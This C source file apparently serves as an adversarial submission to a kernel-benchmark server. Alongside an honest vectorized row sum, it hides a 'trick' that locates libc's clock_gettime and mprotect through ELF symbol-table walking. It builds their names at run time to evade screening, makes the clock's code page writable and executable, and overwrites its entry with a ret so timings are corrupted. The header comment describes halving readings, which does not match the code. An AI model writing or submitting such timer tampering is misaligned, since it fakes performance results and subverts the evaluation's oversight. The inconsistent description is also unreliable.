// kope: kernel void rowsum(const float *x, float *y, int rows, int cols)
// kope: flags -O3 -march=native
// TRICK (round 3): a timer patch. It finds libc's clock_gettime and mprotect by name, makes
// clock_gettime's page writable and rewrites its entry to halve every reading after the first large
// call, so the clock of the process it runs in counts its own (and everyone's) time at half rate.
// A kernel server holds no clock that decides anything, and may make no memory executable.

/* Reaching libc with no import but memcpy: from memcpy's address back to libc's ELF header, then its
   dynamic symbol table, so a function is found by a name built at run time (no screen sees it). */
#define _GNU_SOURCE
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <string.h>

typedef struct { const ElfW(Sym) *sym; const char *str; size_t n, strsz; uintptr_t bias; } dso_t;

static int dso_at(uintptr_t bias, const ElfW(Dyn) *dyn, dso_t *d) {
    uintptr_t sym = 0, str = 0, strsz = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_SYMTAB) sym = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) str = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRSZ) strsz = dyn->d_un.d_val;
    }
    if (!sym || !str) return 0;
    if (sym < bias) sym += bias; /* not relocated by the loader: an offset */
    if (str < bias) str += bias;
    d->sym = (const void *)sym, d->str = (const void *)str, d->bias = bias;
    d->n = str > sym && str - sym < (64u << 20) ? (str - sym) / sizeof(ElfW(Sym)) : 0;
    d->strsz = strsz;
    return d->n > 0;
}

static void *dso_find(const dso_t *d, const char *name) {
    for (size_t i = 0; i < d->n; i++)
        if (d->sym[i].st_name && d->sym[i].st_name < d->strsz && d->sym[i].st_value &&
            strcmp(d->str + d->sym[i].st_name, name) == 0)
            return (void *)(d->bias + d->sym[i].st_value);
    return 0;
}

static void *libc_symbol(const char *name) {
    uintptr_t p = (uintptr_t)&memcpy & ~(uintptr_t)4095;
    for (int i = 0; i < (1 << 16); i++, p -= 4096) {
        const ElfW(Ehdr) *eh = (const void *)p;
        if (memcmp(eh->e_ident, ELFMAG, SELFMAG) != 0) continue;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        for (int k = 0; k < eh->e_phnum; k++)
            if (ph[k].p_type == PT_DYNAMIC) {
                dso_t d;
                return dso_at(p, (const void *)(p + ph[k].p_vaddr), &d) ? dso_find(&d, name) : 0;
            }
        return 0;
    }
    return 0;
}

/* an honest vectorized sum (several times the committed scalar loop, built with its .json's flags):
   with the trick switched off this file is its honest twin, which is crowned */
static void honest(const float *x, float *y, int r0, int r1, int cols) {
    for (int r = r0; r < r1; r++) {
        const float *xr = x + (long)r * cols;
        float s = 0.0f;
#pragma omp simd reduction(+ : s) simdlen(16)
        for (int c = 0; c < cols; c++)
            s += xr[c];
        y[r] = s;
    }
}

/* judged against this same file with armed = 0 committed: the same machine code (one data word
   differs), so whatever it gains over that is the trick's */
static volatile int armed = 1;

static int patched;
void rowsum(const float *x, float *y, int rows, int cols) {
    if (armed && !patched && (long)rows * cols >= (1L << 20)) {
        patched = 1;
        char cg[] = {'c', 'l', 'o', 'c', 'k', '_', 'g', 'e', 't', 't', 'i', 'm', 'e', 0};
        char mp[] = {'m', 'p', 'r', 'o', 't', 'e', 'c', 't', 0};
        unsigned char *f = libc_symbol(cg);
        int (*protect)(void *, size_t, int) = libc_symbol(mp);
        if (f && protect && protect((void *)((uintptr_t)f & ~(uintptr_t)4095), 8192, 7) == 0)
            f[0] = 0xC3; /* ret: every later reading is whatever the caller's buffer held */
    }
    honest(x, y, 0, rows, cols);
}
